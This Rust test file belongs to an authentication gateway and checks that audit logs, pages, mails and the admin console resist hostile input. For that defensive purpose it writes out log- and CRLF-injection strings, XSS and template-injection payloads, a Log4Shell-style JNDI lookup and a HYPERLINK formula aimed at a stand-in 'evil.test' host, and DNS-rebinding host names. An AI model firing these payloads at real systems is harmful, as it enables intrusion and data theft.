//! Words that others choose: in logs and records (AU-01), on pages and in mails (AD-05); and the console's door (AD-02).

use data_encoding::HEXLOWER;
use serde_json::Value;

use crate::world::{Database, Gateway, Installation, Stage, exchange, send_raw, words};

/// Names that would end a line, start a record, clear a screen or run.
fn hostile() -> Vec<String> {
    let long = "x".repeat(60_000);
    [
        "al\r\nice",
        "alice\n{\"details\":{\"event\":\"AUTH_SUCCESS\"}}",
        "\u{1b}[2J\u{1b}]0;owned\u{7}",
        "\"}{\"",
        "a\u{2028}b\u{2029}c",
        "\u{0}",
        "\u{202e}ecila\u{202c}",
        "\u{85}\u{9b}31m",
        "<img src=x onerror=alert(1)>",
        "%0d%0aSet-Cookie: x=1",
        "${jndi:ldap://evil.test/x}",
        "=HYPERLINK(\"https://evil.test\")",
        &long,
        &"\u{1f6aa}".repeat(9_000),
    ]
    .map(str::to_owned)
    .into()
}

/// Every text of a record, with its place.
fn texts(value: &Value, place: &str, found: &mut Vec<(String, String)>) {
    match value {
        Value::String(text) => found.push((place.to_owned(), text.clone())),
        Value::Array(items) => items.iter().for_each(|item| texts(item, place, found)),
        Value::Object(fields) => {
            fields.iter().for_each(|(name, value)| texts(value, &format!("{place}/{name}"), found))
        }
        _ => {}
    }
}

/// Whether a character would do more in a terminal or a file of lines than show itself.
fn acts(c: char) -> bool {
    c.is_control() || matches!(c, '\u{2028}' | '\u{2029}')
}

/// AU-01, in the audit trail and in the log.
#[test]
fn whatever_is_typed_a_record_is_one_line_and_no_field_is_longer_than_a_kibibyte() {
    let installation = Installation::with_users(Database::Sqlite);
    let served = installation.serve();
    let intranet = served.url("intranet", "/");
    // From an address each, and at once: a wrong password is answered slowly.
    std::thread::scope(|scope| {
        for (number, name) in hostile().into_iter().enumerate() {
            let (served, intranet) = (&served, &intranet);
            scope.spawn(move || {
                let mut visitor = served.proxied_visitor();
                visitor.always.push(("X-Forwarded-For".to_owned(), format!("203.0.113.{number}")));
                let page = visitor.up_to_the_password(&name, intranet);
                assert!(!page.html().contains("<img src=x"), "{}", page.html());
                if page.stage() == Stage::Password {
                    visitor.submit(&page, "password", &[("password", "not it")]).is_at(Stage::Password);
                }
            });
        }
    });
    // A user whose name on record is no better: directories are not always ours.
    let name = format!("bo{}b", "\r\n\u{1b}[2J\"}{\"\u{2028}\u{85}".repeat(100));
    let hex = HEXLOWER.encode(name.as_bytes());
    installation.sql(&format!("UPDATE user_account SET name = CAST(x'{hex}' AS TEXT) WHERE folded_name = 'bob'"));
    let mut bob = served.proxied_visitor();
    bob.with_password(&served.gateway, "bob", &intranet);
    bob.get(&served.url("wiki", "/"));
    // A megabyte is not even read.
    let mut visitor = served.proxied_visitor();
    let page = visitor.get(&intranet);
    let answer = visitor.post_once(&page, &page.form("username"), &[("username", &"x".repeat(1024 * 1024))]);
    assert_eq!(answer.status, 413);
    // What a browser says of itself, and where it wants to go.
    let agent = format!("Evil/1 {}", "\"}{\"".repeat(700));
    let mut alice = served.proxied_visitor();
    alice.always.push(("User-Agent".to_owned(), agent));
    alice.ask_for_code(&served.gateway, "alice", &served.url("wiki", &format!("/{}", "p".repeat(1_400))));
    for target in ["/a%0d%0ab", "/%1b[2J", "/\u{1b}[2J", "/%E2%80%A8x", "/\"}{\"", &format!("/{}", "%41".repeat(2_000))]
    {
        let head = format!("GET {target} HTTP/1.1\r\nHost: intranet.example.test\r\nConnection: close\r\n\r\n");
        send_raw(served.ports.http, head.as_bytes());
    }
    for host in ["evil\u{1b}[2J.test", "\"}{\".test", &"h".repeat(3_000)] {
        let head = format!("GET / HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n");
        send_raw(served.ports.http, head.as_bytes());
    }
    let method =
        format!("{} / HTTP/1.1\r\nHost: intranet.example.test\r\nConnection: close\r\n\r\n", "M".repeat(3_000));
    send_raw(served.ports.http, method.as_bytes());

    let exported = installation.command(&["audit", "export"], &["--format", "json"], "");
    let exported = String::from_utf8(exported.stdout).unwrap();
    let kept = installation.sql("SELECT record FROM audit_record ORDER BY seq");
    let log = served.gateway.log.lock().unwrap().clone();
    let (mut agents, mut names) = (0, 0);
    for (place, lines) in [("export", &exported), ("store", &kept), ("log", &log)] {
        assert!(lines.lines().count() > 10, "{place}: {lines}");
        for line in lines.lines() {
            let record: Value = serde_json::from_str(line).unwrap_or_else(|error| panic!("{place}: {error}: {line}"));
            assert!(!line.contains(acts), "{place}: {line:?}");
            let mut found = Vec::new();
            texts(&record, "", &mut found);
            for (field, text) in found {
                assert!(text.len() <= 1024, "{place}: {} bytes in {field}", text.len());
                assert!(place == "log" || !text.contains(acts), "{place}: {field}: {text:?}");
                agents += usize::from(field.ends_with("/userAgent") && text.contains("\"}{\""));
                names += usize::from(field.ends_with("/usedName") && text.starts_with("bo\u{fffd}\u{fffd}"));
            }
        }
    }
    assert!(agents >= 2 && names >= 2, "on record, made harmless: {agents} {names}");
    // What nobody is called is no name: it may be a password in the wrong field, and is written down nowhere.
    for (place, lines) in [("export", &exported), ("store", &kept), ("log", &log)] {
        assert!(!lines.contains("jndi") && !lines.contains("HYPERLINK"), "{place}: {lines}");
    }
    let verified = installation.command(&["audit", "verify"], &[], "");
    assert_eq!(verified.status.code(), Some(0), "{}", words(&verified));
}

const XSS: [&str; 6] = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "{{7*7}}{% for x in y %}",
    "javascript:alert(1)",
    "\" autofocus onfocus=alert(1) x=\"",
];

/// AD-05: in every place where one of us shows what somebody has chosen, it is text.
#[test]
fn what_somebody_chose_is_text_on_every_page_and_in_every_mail() {
    let all = XSS.join(" ");
    let mut installation = Installation::with_users(Database::Sqlite);
    for (written, others) in [("The wiki", [XSS[0], XSS[3]]), ("Example", [XSS[0], XSS[5]])] {
        let other = others.join(" ").replace('"', "\\\"");
        installation.instead.push((format!("name = \"{written}\""), format!("name = \"{other}\"")));
    }
    let sql = all.replace('\'', "''");
    installation.sql(&format!("UPDATE user_account SET display_name = '{sql}' WHERE name = 'alice'"));
    installation.sql(&format!("UPDATE user_group SET name = '{sql}' WHERE name = 'staff'"));
    let served = installation.serve();
    let gateway = &served.gateway;
    let wiki = served.url("wiki", "/page");
    let mut alice = served.proxied_visitor();
    let mut pages = vec![alice.get(&served.url("wiki", &format!("/{}", XSS[0].replace([' ', '<', '>'], "-"))))];
    // A name that nobody has is shown again beside the password.
    let typed = alice.submit(&pages[0], "username", &[("username", &all)]);
    pages.push(typed);
    let mut alice = served.proxied_visitor();
    pages.push(alice.sign_in(gateway, "alice", &wiki));
    pages.push(alice.press(&pages[2], "add_authenticator"));
    let code = gateway.mail_to("alice@example.test").code();
    pages.push(alice.type_code(&pages[3], &format!("{all}{code}")));
    pages.push(alice.type_code(&pages[4].clone(), &code));
    pages.push(alice.choose_ios(&pages[5].clone()));
    let phone = pages[6].phone();
    assert_eq!(alice.finish(&pages[6].clone(), &phone).url, wiki);
    pages.push(alice.get(&served.url("login", "/")));
    let denied = served.url("wiki", "/nothing/../%zz");
    pages.push(alice.get(&denied));
    let link = |mails: Vec<crate::world::Mail>| {
        let notice = mails.into_iter().find(|mail| mail.text.contains("/notice/"))?;
        notice.text.split_whitespace().find(|word| word.contains("/notice/")).map(str::to_owned)
    };
    let end = std::time::Instant::now() + std::time::Duration::from_secs(15);
    let link = loop {
        if let Some(link) = link(installation.mails()) {
            break link;
        }
        assert!(std::time::Instant::now() < end, "no notice");
        std::thread::sleep(std::time::Duration::from_millis(50));
    };
    pages.push(alice.get(&link));
    let mut shown: Vec<(String, String)> = pages.iter().map(|page| (page.url.clone(), page.html())).collect();
    shown.extend(installation.mails().into_iter().map(|mail| (mail.subject.clone(), mail.html)));
    let mut seen = 0;
    for (place, html) in shown {
        for running in ["<img src=x", "<script>alert", "onfocus=alert(1) x=\"\"", "href=\"javascript:"] {
            assert!(!html.contains(running), "{running} at {place}: {html}");
        }
        assert!(!html.contains("49{%") && !html.contains(" 49 "), "a template was run at {place}: {html}");
        seen += usize::from(html.contains("&lt;img src"));
    }
    assert!(seen >= 8, "it is shown, as text: {seen}");
}

/// AD-02: the console answers to its own names only, on its own listener, and takes no form from elsewhere.
#[test]
fn the_console_is_behind_a_door_of_its_own() {
    let gateway = Gateway::demo();
    let ask = |port: u16, method: &str, host: &str, path: &str, fields: &[(&str, &str)], body: &[u8]| {
        exchange(port, method, host, path, fields, body)
    };
    assert_eq!(ask(gateway.console, "GET", "127.0.0.1", "/mailbox.json", &[], b"").status, 200);
    // A name that leads here by DNS rebinding, an application's host, the portal's.
    for host in ["evil.test", "wiki.localhost", "login.localhost", "127.0.0.1.evil.test", "169.254.169.254", "0.0.0.0"]
    {
        for path in ["/", "/mailbox", "/mailbox.json"] {
            let answer = ask(gateway.console, "GET", host, path, &[("Accept", "text/html")], b"");
            assert_eq!(answer.status, 421, "{host}{path}: {}", answer.text());
        }
    }
    // The console's paths and names are nothing on the public listener.
    for host in ["127.0.0.1", "localhost", "console.localhost", &format!("127.0.0.1:{}", gateway.console)] {
        assert_eq!(ask(gateway.port, "GET", host, "/mailbox.json", &[], b"").status, 421, "{host}");
    }
    for host in ["login", "wiki", "intranet"] {
        let authority = format!("{host}.localhost:{}", gateway.port);
        let answer = ask(gateway.port, "GET", &authority, "/mailbox.json", &[("Accept", "text/html")], b"");
        assert!(!answer.text().contains("\"subject\"") && answer.status != 200, "{host}: {}", answer.status);
    }
    // A form of another site's page, and of an application that is behind this very gateway.
    let kind = ("Content-Type", "application/x-www-form-urlencoded");
    let own = format!("127.0.0.1:{}", gateway.console);
    for origin in ["https://evil.test", "null", &gateway.url("wiki", ""), &gateway.url("login", "")] {
        for site in ["cross-site", "same-site"] {
            let fields = [kind, ("Origin", origin), ("Sec-Fetch-Site", site)];
            let answer = ask(gateway.console, "POST", &own, "/mailbox/stopped", &fields, b"stopped=true");
            assert_eq!(answer.status, 403, "{origin} {site}");
        }
    }
    let mut alice = gateway.visitor();
    let page = alice.ask_for_code(&gateway, "alice", &gateway.url("wiki", "/"));
    page.says("We sent a code");
    let framed = ask(gateway.console, "GET", "127.0.0.1", "/mailbox", &[], b"");
    assert!(framed.header("content-security-policy").is_some_and(|csp| csp.contains("frame-ancestors 'none'")));
}

/// HO-03: a host that is not ours has a page, the same for everybody, that looks like ours and leads nowhere.
#[test]
fn a_host_that_is_not_ours_has_a_fixed_page_with_its_style_and_no_portal() {
    let gateway = Gateway::demo();
    let ask = |host: &str, path: &str| exchange(gateway.port, "GET", host, path, &[("Accept", "text/html")], b"");
    let masked = |text: String| {
        let id = text.split("translate=\"no\">").nth(1).and_then(|rest| rest.split('<').next()).unwrap_or_default();
        text.replace(&id.to_owned(), "…")
    };
    let page = ask("evil.test", "/");
    assert_eq!(page.status, 421);
    let html = page.text();
    for host in ["192.0.2.7", "wiki.localhost.evil.test", "xn--e1afmkfd.test"] {
        for path in ["/", "/signin", "/admin"] {
            let other = ask(host, path);
            assert_eq!((other.status, masked(other.text())), (421, masked(html.clone())), "{host}{path}");
        }
    }
    assert!(!html.contains("<form") && !html.contains("localhost") && !html.contains("<script"), "{html}");
    assert_eq!(page.all("set-cookie").count(), 0);
    let style = html.split("rel=\"stylesheet\" href=\"").nth(1).and_then(|rest| rest.split('"').next()).unwrap();
    let style = ask("evil.test", style);
    assert_eq!((style.status, style.header("content-type")), (200, Some("text/css; charset=utf-8")));
    assert_eq!(style.all("set-cookie").count(), 0);
    for path in
        ["/assets/doorward.css", "/.doorward/language", "/.doorward/enter?ticket=x", "/.doorward/assets/../enter"]
    {
        assert_eq!(ask("evil.test", path).status, 421, "{path}");
    }
    assert_eq!(ask("evil.test", "/.doorward/assets/nothing.css").status, 404);
}
